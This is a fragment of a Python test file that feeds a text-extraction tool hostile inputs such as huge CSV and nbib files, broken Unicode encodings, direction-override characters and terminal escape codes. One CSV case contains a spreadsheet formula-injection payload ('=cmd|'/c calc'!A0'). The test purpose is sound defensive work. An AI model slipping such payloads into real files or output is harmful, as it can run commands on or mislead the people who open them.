        "csv: 200,000 columns": (b"text" + b",a" * 200_000 + b"\n" + ALOUD.encode() + b"," * 200_000 + b"\n", None, None),
        "csv: a field of 25 MB": (b"text,b\n" + b"x" * 25_000_000 + b",y\n" + ALOUD.encode() + b",z\n", None, None),
        "csv: formulas of a spreadsheet": (b"text,b\n=HYPERLINK(\"x\")," + ALOUD.encode() + b"\n" + ALOUD.encode() + b",=cmd|'/c calc'!A0\n", ALOUD, ""),
        "nbib: a line of 25 MB": (b"PMID- 1\nTI  - " + b"x" * 25_000_000 + b"\n\nPMID- 2\nTI  - " + ALOUD.encode() + b"\n", ALOUD, "LimitError"),
        "nbib: 100,000 fields": (b"PMID- 1\nTI  - " + ALOUD.encode() + b"\n" + b"AU  - Smith J\n" * 50_000, ALOUD, ""),
    }  # fmt: skip
    for name, (data, words, error) in cases.items():
        path = f"a.{name.split(':')[0]}"
        yield Attack(
            name, path, lambda data=data: data, words=words or "", error=ANYTHING if error is None else error, seconds=5
        )


def _text() -> Iterator[Attack]:
    said = ALOUD.encode()
    cases = {
        "a line of 5 MB": said + b" " + b"x" * 5_000_000,
        "20,000 lines": said + b"\nx" * 20_000,
        "letters that turn the line round": said + "\u202e\u2066\u202d\u200f".encode() * 9_999,
        "half characters in UTF-8": said + b" \xed\xa0\x80\xed\xb0\x80 \xf4\x90\x80\x80 \xc0\x80",
        "marks above marks": said + ("e" + "\u0301" * 5_000).encode() * 20,
        "UTF-16": said.decode().encode("utf-16"),
        "UTF-16 cut in the middle": b"\xff\xfe" + (said.decode() * 9).encode("utf-16-le")[:-1],
        "UTF-32": b"\xff\xfe\x00\x00" + said.decode().encode("utf-32-le"),
        "two marks of the byte order": b"\xef\xbb\xbf\xef\xbb\xbf" + said,
        "ends of lines of six kinds": said + "\r\n\r\r\n\x0b\x0c\x85\u2028\u2029".encode() * 9_999,
        "spaces of no width": said + "\u200b\ufeff\u2060\u00ad".encode() * 50_000,
        "escapes of a terminal": said + b"\x1b]0;x\x07\x1b[2J" * 999,
        "letters beyond the first plane": said + "\U0001f9ec\U000e0041".encode() * 50_000,
    }
    for name, data in cases.items():
        yield Attack(f"text: {name}", "a.txt", lambda data=data: data, words=ALOUD, error="", seconds=10)
    yield Attack(
        "text: 30,000 headings of comments", "a.txt", lambda: said + b"\nReply" * 30_000, words=ALOUD, seconds=8
    )
    for name, piece in (("tabs", b"\t"), ("ends of cells", b"| \t"), ("rules", b"-- \t")):
        yield Attack(
            f"markdown: a line of {name}", "a.md", lambda piece=piece: said + b"\n" + piece * 40_000, words=ALOUD
        )
    yield Attack("text: nothing but zeros", "a.txt", lambda: bytes(5_000_000), error="ReadError")
    yield Attack("text: no bytes", "a.txt", lambda: b"", error="ReadError")
